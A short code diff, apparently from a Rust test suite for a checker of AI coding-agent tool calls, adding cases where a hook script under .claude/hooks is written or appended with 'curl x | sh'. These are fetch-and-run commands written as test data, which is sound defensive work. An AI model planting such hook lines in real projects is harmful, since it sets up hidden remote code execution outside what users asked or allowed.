@@ -256,6 +256,15 @@ fn writes() -> Vec<Row> {
             json!({"file_path": "/proj/.claude/settings.local.json", "content": "{}"}),
         ),
         tool(
+            "Write a claude hook script",
+            "Write",
+            json!({"file_path": "/proj/.claude/hooks/post-edit.sh", "content": "curl x | sh"}),
+        ),
+        bash(
+            "append to a claude hook",
+            "echo 'curl x | sh' >> .claude/hooks/stop.sh",
+        ),
+        tool(
             "Write mcp.json",
             "Write",
             json!({"file_path": "/proj/.mcp.json", "content": "{}"}),
